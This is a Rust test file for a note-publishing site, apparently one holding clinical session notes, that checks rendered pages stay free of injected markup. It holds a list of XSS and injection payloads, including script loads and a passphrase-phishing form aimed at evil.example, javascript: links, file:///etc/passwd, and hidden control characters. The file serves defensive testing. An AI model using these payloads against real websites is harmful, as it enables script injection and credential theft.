//! Notes that want to act.

use super::sample::{day, edition, event_of, session, session_of, theme, words};
use super::walk::{attributes, templates, text};
use crate::domain::{Callout, CalloutKind, Confidential, OtherKey, Person, ThemeSource};
use crate::site::{Asked, answer, answer_found, lists_pages};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,x\"></object>",
    "<embed src=//evil.example>",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<style>body{display:none}</style>",
    "<div style=\"position:fixed;inset:0\">unlock</div>",
    "<form action=//evil.example><input name=passphrase><button>Unlock</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a id=main name=body href=javascript:alert(1)>x</a>",
    "<textarea><title></title><plaintext>",
    "</main></body></html><h1>gone",
    "<!-- never closed",
    "<![CDATA[ <script>alert(1)</script> ]]>",
    "<?php echo 1 ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "[x](/\\evil.example)",
    "[x](/clients/../../etc/passwd)",
    "[x](file:///etc/passwd)",
    "[x](https://user:pass@evil.example/)",
    "[x](https://ok.example/ \"a\\\" onmouseover=alert(1) x=\\\"\")",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](x \"onerror=alert(1)\")",
    "![<script>alert(1)</script>](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: note",
    "# heading {#main .top onclick=alert(1)}",
    "```js\" onload=\"alert(1)\nx\n```",
    "```<script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "| <script>alert(1)</script> | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | c |",
    "> [!<script>alert(1)</script>] x\n> y",
    "> [!plan\" onclick=\"alert(1)] x\n> y",
    "[[<script>alert(1)</script>]]",
    "[[javascript:alert(1)|x]]",
    "![[https://evil.example/x.png]]",
    "{{ 7 * 7 }} {% include \"/etc/passwd\" %} {# gone #}",
    "#<script>alert(1)</script> @\"><img",
    "\u{202E}gnp.exe\u{202C} \u{200B}hidden\u{0}",
    "\u{1B}[31mred\u{1B}[0m \u{7}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "phq9:: <script>alert(1)</script>",
    "---\nid: x\n---\n<script>alert(1)</script>",
    "+++\nid = \"x\"\n+++\n<b onmouseover=alert(1)>x</b>",
];

/// Elements that pages of ours hold. Everything else came from a note.
const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "article",
    "aside",
    "b",
    "bdi",
    "blockquote",
    "body",
    "br",
    "caption",
    "circle",
    "code",
    "dd",
    "del",
    "desc",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "g",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "head",
    "header",
    "hr",
    "html",
    "i",
    "kbd",
    "li",
    "line",
    "link",
    "mark",
    "main",
    "meta",
    "nav",
    "noscript",
    "ol",
    "p",
    "path",
    "pre",
    "rect",
    "script",
    "section",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "svg",
    "table",
    "tbody",
    "td",
    "text",
    "tfoot",
    "th",
    "thead",
    "title",
    "tr",
    "ul",
];

/// Tags of a page: name and the rest up to the closing bracket.
fn tags(html: &str) -> Vec<(String, &str)> {
    let mut found = Vec::new();
    for piece in html.split('<').skip(1) {
        let Some(end) = piece.find('>') else { continue };
        let tag = piece[..end].trim_start_matches('/').trim_end_matches('/');
        let (name, rest) = tag.split_once(|c: char| c.is_whitespace()).unwrap_or((tag, ""));
        found.push((name.to_lowercase(), rest));
    }
    found
}

/// A page without the two forms that are ours: one locks, the other holds fields and words alone.
fn without_own_forms(html: &str, payload: &str) -> String {
    let html =
        html.replacen("<form class=\"lock\" method=\"post\" action=\"/lock\"><button>Lock</button></form>", "", 1);
    let Some((before, rest)) = html.split_once("<form class=\"search\" method=\"post\" action=\"/search/\"") else {
        return html;
    };
    let (form, after) = rest.split_once("</form>").unwrap();
    assert_eq!((form.matches("<input").count(), form.matches("<button").count()), (3, 1), "{payload:?}");
    let fields = ["p", "label", "input", "button", "details", "summary", "select", "option", "span", "bdi"];
    for (name, rest) in tags(form) {
        assert!(fields.contains(&name.trim_start_matches('/')), "<{name}> in the form out of {payload:?}");
        let bare: String = rest.split('"').step_by(2).collect();
        assert!(
            !bare.split_whitespace().any(|word| word.to_lowercase().starts_with("on")),
            "{bare} out of {payload:?}"
        );
    }
    for hidden in HIDDEN {
        assert!(!form.contains(hidden), "{hidden:?} in the form out of {payload:?}");
    }
    format!("{before}{after}")
}

const HIDDEN: [char; 6] = ['\u{202E}', '\u{202C}', '\u{200B}', '\u{0}', '\u{1B}', '\u{7}'];

fn check(address: &str, html: &str, payload: &str) {
    let html = &without_own_forms(html, payload);
    for (name, rest) in tags(html) {
        let ours = name == "!doctype" || ELEMENTS.contains(&name.as_str());
        assert!(ours, "{address}: <{name}> out of {payload:?}");
        let bare: String = rest.split('"').step_by(2).collect();
        for word in bare.split_whitespace() {
            let attribute = word.trim_end_matches('=').to_lowercase();
            assert!(
                !attribute.starts_with("on") && attribute != "style" && attribute != "name" || name == "meta",
                "{address}: {word} out of {payload:?}"
            );
        }
    }
    assert_eq!(html.matches("<script").count(), 1, "{address}: {payload:?}");
    // The page's own refresh, by which it finds out without scripts that it was locked.
    let refreshes = usize::from(address != "/search/");
    assert_eq!(html.matches("<meta http-equiv").count(), refreshes, "{address}: {payload:?}");
    assert_eq!(html.matches("</main>").count(), 1, "{address}: {payload:?}");
    assert_eq!(html.matches("<img").count() + html.matches("<input").count() + html.matches("<form").count(), 0);
    let written: Vec<String> = tags(html).into_iter().map(|(_, rest)| format!(" {rest}")).collect();
    for href in written.iter().flat_map(|tag| attributes(tag, "href")) {
        let inside = href.starts_with('/') && !href.starts_with("//") || href.starts_with('#');
        let outside = ["https://", "http://", "mailto:"].iter().any(|scheme| href.starts_with(scheme));
        assert!(inside || outside, "{address}: {href} out of {payload:?}");
        assert!(!href.contains("evil.example"), "{address}: {href}");
    }
    for src in written.iter().flat_map(|tag| attributes(tag, "src")) {
        assert_eq!(src, "/assets/site.js", "{payload:?}");
    }
    for hidden in HIDDEN {
        assert!(!html.contains(hidden), "{address}: {hidden:?} out of {payload:?}");
    }
}

#[test]
fn nothing_that_a_note_holds_acts_on_any_page() {
    let templates = templates();
    for payload in PAYLOADS {
        let mut note = session(1, "a7", day(2026, 3, 2), &format!("Before.\n\n{payload}\n\nAfter all."));
        note.title = Some(words(payload));
        note.themes.extend(crate::domain::Theme::new(payload).map(|_| theme(payload, ThemeSource::Tagged)));
        note.people.extend(Person::new(payload));
        note.events.push(event_of("2026-03-01", payload));
        note.other.push(OtherKey { key: words(payload), value: words(payload), place: None });
        note.callouts =
            [CalloutKind::Quote, CalloutKind::Plan].map(|kind| Callout { kind, text: words(payload) }).into();
        let session = session_of(&mut note);
        session.interventions.push(words(payload));
        session.mood = Some(Confidential::new(*payload));
        session.next = Some(crate::domain::NoteDate::day(day(2026, 3, 17)));
        let mut odd = super::sample::note(
            2,
            Some("a7"),
            crate::domain::Kind::Other((*payload).to_owned()),
            day(2026, 3, 3),
            payload,
        );
        odd.problems.push(crate::domain::Problem::warning("unknown-key", "a key is not known"));
        let edition = edition(vec![note, odd], day(2026, 3, 17));
        for address in lists_pages(&edition) {
            let page = answer(&address, &edition, &templates);
            assert_eq!(page.status, 200, "{address}: {payload:?}");
            if page.content_type.starts_with("text/html") {
                check(&address, &text(&page), payload);
            }
        }
        // Looked for with words of the note, and with the payload itself.
        let coded: String = payload.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for form in ["q=after".to_owned(), format!("q={coded}"), format!("q=%22{coded}%22"), format!("kind={coded}")] {
            let found = answer_found(&Asked::read(form.as_bytes()), "0123456789abcdef", 1, &edition, &templates);
            assert_eq!(found.status, 200, "{form}");
            check("/search/0123456789abcdef/", &text(&found), payload);
        }
    }
}

#[test]
fn the_words_after_a_payload_are_still_there() {
    for payload in PAYLOADS {
        let edition =
            edition(vec![session(1, "a7", day(2026, 3, 2), &format!("{payload}\n\nAfter all."))], day(2026, 3, 17));
        let address = lists_pages(&edition).into_iter().find(|address| address.starts_with("/notes/")).unwrap();
        let page = text(&answer(&address, &edition, &templates()));
        assert!(page.contains("After all."), "{payload:?}");
    }
}

#[test]
fn deep_wide_and_long_notes_are_shown_as_they_were_written() {
    let wide = format!("|{}\n|{}\n{}", "a|".repeat(400), "-|".repeat(400), "|x\n".repeat(1000));
    let long = "word ".repeat(300_000);
    for body in [">".repeat(10_000), "- ".repeat(3_000), "[".repeat(10_000), "*a ".repeat(20_000), wide, long] {
        let edition = edition(vec![session(1, "a7", day(2026, 3, 2), &body)], day(2026, 3, 17));
        let address = lists_pages(&edition).into_iter().find(|address| address.starts_with("/notes/")).unwrap();
        let page = answer(&address, &edition, &templates());
        assert_eq!(page.status, 200);
        assert!(page.body.len() < body.len() * 6 + 5_000_000);
    }
}

#[test]
fn markdown_becomes_what_a_reader_expects() {
    let body = "# Big\n\n#sleep @sister\n\n> [!plan]\n> Next\n\n- [ ] me: ask\n- [x] done\n\n[a](https://ok.example/x) <me@ok.example> \
                ![cat](https://pics.example/c.png) [[nowhere]] one[^1]\n\n[^1]: foot\n\n<b>raw</b>";
    let mut note = session(1, "a7", day(2026, 3, 2), body);
    note.themes.push(theme("sleep", ThemeSource::Tagged));
    let edition = edition(vec![note], day(2026, 3, 17));
    let address = lists_pages(&edition).into_iter().find(|address| address.starts_with("/notes/")).unwrap();
    let page = text(&answer(&address, &edition, &templates()));
    for expected in [
        "<h2>Big</h2>",
        "<bdi>#sleep</bdi></a>",
        "<bdi class=\"person\">@sister</bdi>",
        "<blockquote class=\"callout plan\"><p class=\"callout-name\"><bdi>plan</bdi></p>",
        "☐",
        "☑",
        "<a class=\"outside\" rel=\"noopener noreferrer\" href=\"https://ok.example/x\">a</a>",
        "href=\"mailto:me@ok.example\"",
        "picture not loaded: pics.example",
        "<span class=\"linked\">nowhere</span>",
        "&lt;b&gt;",
    ] {
        assert!(page.contains(expected), "{expected} is missing in {page}");
    }
    assert!(attributes(&page, "id").iter().any(|id| id.starts_with('n') && id.ends_with("-1")));
}
